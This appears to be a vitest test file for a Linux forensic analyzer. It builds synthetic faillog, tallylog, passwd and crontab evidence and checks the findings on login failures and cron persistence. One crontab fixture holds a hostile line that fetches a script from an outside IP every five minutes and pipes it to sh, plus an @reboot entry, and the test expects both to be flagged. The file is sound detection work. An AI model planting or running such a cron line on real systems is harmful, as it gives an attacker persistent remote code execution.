/**
 * Login failure counters (faillog, tallylog) and cron persistence naming their host: an evidence
 * tree written with the project's faillog/tallylog writers, an etc/passwd and an etc/hostname,
 * read with the real readers and analysed; the corpus faillogs (all counters zero) give nothing.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { cronPersistence } from '../../../src/analytics/linux/cron-persistence.ts';
import { failureCounters } from '../../../src/analytics/linux/failure-counters.ts';
import { DEFAULT_ANALYSIS_OPTIONS, type Analyzer } from '../../../src/analytics/types.ts';
import type { Event } from '../../../src/core/event.ts';
import type { Finding } from '../../../src/core/finding.ts';
import type { Issue } from '../../../src/core/issue.ts';
import { linuxReaders } from '../../../src/sources/linux/index.ts';
import { corpusDir } from '../../support/corpus.ts';
import { faillogFile, tallylogFile } from '../../support/linux/utmp-writer.ts';

async function read(id: string, path: string): Promise<Event[]> {
  const r = linuxReaders.find((x) => x.id === id)!;
  const issues: Issue[] = [];
  const out: Event[] = [];
  for await (const e of r.read(path, { issues, displayPath: path, mtimeUs: Date.UTC(2024, 4, 1) * 1000 })) out.push(e);
  return out;
}

function run(a: Analyzer, events: Event[]): Finding[] {
  for (const e of events) if (a.wants(e)) a.add(e);
  return a.finish();
}

const T = Date.UTC(2024, 4, 1, 3, 0, 0) / 1000;

describe('login failure counters', () => {
  const root = mkdtempSync(join(tmpdir(), 'konseki-faillog-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));
  const tree = (name: string, hostname?: string): string => {
    const d = join(root, name);
    mkdirSync(join(d, 'etc'), { recursive: true });
    mkdirSync(join(d, 'var', 'log'), { recursive: true });
    writeFileSync(
      join(d, 'etc', 'passwd'),
      'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nbob:x:1001:1001::/home/bob:/bin/bash\nadmin:x:1002:1002::/home/admin:/bin/sh\n',
    );
    if (hostname) writeFileSync(join(d, 'etc', 'hostname'), `# set by kickstart\n${hostname}\n`);
    return d;
  };

  it('faillog: accounts at or above the threshold, root raising it, the host from etc/hostname', async () => {
    const d = tree('web', 'web01.example.jp');
    const p = join(d, 'var', 'log', 'faillog');
    writeFileSync(
      p,
      faillogFile(
        [
          { uid: 0, count: 37, max: 0, line: 'ssh:notty', time: T },
          { uid: 1000, count: 2, max: 0, time: T - 60 },
          { uid: 1001, count: 8, max: 5, line: 'ssh:notty', time: T - 120 },
        ],
        1100,
      ),
    );
    const found = run(failureCounters(DEFAULT_ANALYSIS_OPTIONS), await read('faillog', p));
    expect(found).toHaveLength(1);
    const f = found[0]!;
    expect(f).toMatchObject({ kind: 'login-failure-counter', severity: 'high', host: 'web01.example.jp', count: 45 });
    expect(f.details).toMatchObject({ accounts: { root: 37, bob: 8 }, locked: ['bob'], below_threshold: 1 });
    expect(f.summary_en).toContain('root ×37 (last 2024-05-01T03:00:00');
    expect(f.summary_ja).toContain('bob 8 回');
    expect(f.summary_ja).toContain('ロック中');
    expect(f.first_seen).toBe((T - 120) * 1e6);
  });

  it('tallylog: the remote host of the last failure becomes the peer; a few failures of one user stay medium', async () => {
    const d = tree('db', 'db01');
    const p = join(d, 'var', 'log', 'tallylog');
    writeFileSync(p, tallylogFile([{ uid: 1000, rhost: '203.0.113.9', count: 12, time: T }], 1100));
    const [f] = run(failureCounters(DEFAULT_ANALYSIS_OPTIONS), await read('tallylog', p));
    expect(f).toMatchObject({ severity: 'medium', host: 'db01', peer: '203.0.113.9', count: 12 });
    expect(f!.summary_en).toContain('alice ×12 (last 2024-05-01T03:00:00.000000Z from 203.0.113.9)');
  });

  it('a trap account with failures is high; no etc/hostname leaves the host unnamed but the file said', async () => {
    const d = tree('nohost');
    const p = join(d, 'var', 'log', 'faillog');
    writeFileSync(p, faillogFile([{ uid: 1002, count: 5, max: 0, time: T }], 1100));
    const [f] = run(failureCounters(DEFAULT_ANALYSIS_OPTIONS), await read('faillog', p));
    expect(f).toMatchObject({ severity: 'high', host: null });
    expect(f!.summary_en).toContain(p);
  });

  it('crontab entries name the host they were taken from', async () => {
    const d = tree('cronhost', 'app02');
    mkdirSync(join(d, 'var', 'spool', 'cron', 'crontabs'), { recursive: true });
    const p = join(d, 'var', 'spool', 'cron', 'crontabs', 'www-data');
    writeFileSync(p, '*/5 * * * * curl -s http://198.51.100.7/x.sh | sh\n@reboot /home/www-data/.cache/run\n');
    const found = run(cronPersistence(DEFAULT_ANALYSIS_OPTIONS), await read('crontab', p));
    expect(found.map((f) => [f.severity, f.host])).toEqual([
      ['high', 'app02'],
      ['medium', 'app02'],
    ]);
    for (const f of found) {
      expect(f.summary_en).toContain('on app02');
      expect(f.summary_ja).toContain('app02 の');
    }
  });

  const linux = corpusDir('linux');
  it.skipIf(!linux)('the corpus faillogs (every counter zero) give no finding', async () => {
    for (const rel of ['aplicada_tp/faillog', 'blueserver_ctf2/faillog']) {
      const events = await read('faillog', join(linux!, rel));
      expect(events.every((e) => e.fields.fail_cnt === 0)).toBe(true);
      expect(run(failureCounters(DEFAULT_ANALYSIS_OPTIONS), events)).toEqual([]);
    }
  });
});
